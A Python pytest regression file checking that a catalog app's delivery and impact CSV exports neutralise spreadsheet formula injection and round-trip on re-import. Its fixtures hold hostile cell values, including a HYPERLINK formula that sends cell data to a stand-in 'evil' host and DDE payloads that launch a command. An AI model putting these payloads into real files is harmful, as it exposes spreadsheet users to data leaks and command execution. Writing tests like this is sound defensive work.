"""CSV exports are safe to open in a spreadsheet, and still import back unchanged.

Regression: a delivery titled ``=HYPERLINK("http://evil/?"&A1,"Click")`` (or a
capability, business or contact starting with ``+ - @``, a tab or a CR) was
exported as a live formula in the deliveries and impact CSVs.
"""

import csv
import io

import pytest
import sqlalchemy as sa

from catalog.adoptions import adopt
from catalog.deliveries import export_deliveries_csv, import_deliveries_csv, record_delivery
from catalog.models import Business, Delivery
from catalog.spreadsheet import neutralise, restore

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "'=already quoted"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), (cell, row)


@pytest.fixture
def hostile(make, db):
    team = make.team("trade", contact="=cmd|' /C calc'!A0")
    make.domain("transaction")
    make.capability("order-service", name="=HYPERLINK(\"http://evil\")", lifecycle="production")
    db.session.add(Business(slug="taobao", name="@Taobao", team=db.session.merge(team)))
    db.session.commit()
    adopt({"business": "taobao", "capability": "order-service", "since": "2024-01-01"}, None)
    for i, title in enumerate(HOSTILE):
        record_delivery({"business": "taobao", "title": title, "requested_on": "2025-01-02",
                         "delivered_on": "2025-02-03", "external_ref": f"-{i}"}, None)


def test_the_deliveries_export_holds_no_formula(client, hostile):
    for text in (export_deliveries_csv(),
                 client.get("/deliveries/export.csv").get_data(as_text=True),
                 client.get("/api/v1/export/deliveries").get_data(as_text=True)):
        rows = cells(text)
        assert len(rows) == 1 + len(HOSTILE)
        assert_inert(rows)


def test_the_export_imports_back_unchanged(db, hostile):
    text = export_deliveries_csv()
    before = sorted(db.session.execute(sa.select(Delivery.title, Delivery.external_ref)).all())
    wipe_deliveries(db)
    report = import_deliveries_csv(text)
    assert report.ok, report.errors
    after = sorted(db.session.execute(sa.select(Delivery.title, Delivery.external_ref)).all())
    assert after == before
    assert export_deliveries_csv() == text


def wipe_deliveries(db):
    db.session.execute(sa.text("DELETE FROM delivery_capability"))
    db.session.execute(sa.delete(Delivery))
    db.session.commit()


def test_the_impact_csv_holds_no_formula(client, hostile, make):
    make.capability("checkout", name="+Checkout", dependencies=["order-service"])
    response = client.get("/capabilities/order-service/impact.csv")
    rows = cells(response.get_data(as_text=True))
    assert [row[1] for row in rows[1:]] == ["checkout", "taobao"]
    assert rows[1][2] == "'+Checkout" and rows[1][7] == "'=cmd|' /C calc'!A0"
    assert rows[2][2] == "'@Taobao"
    assert_inert(rows)


@pytest.mark.parametrize("cell", HOSTILE)
def test_every_formula_start_is_neutralised_and_restored(cell):
    assert neutralise(cell).startswith("'") and restore(neutralise(cell)) == cell
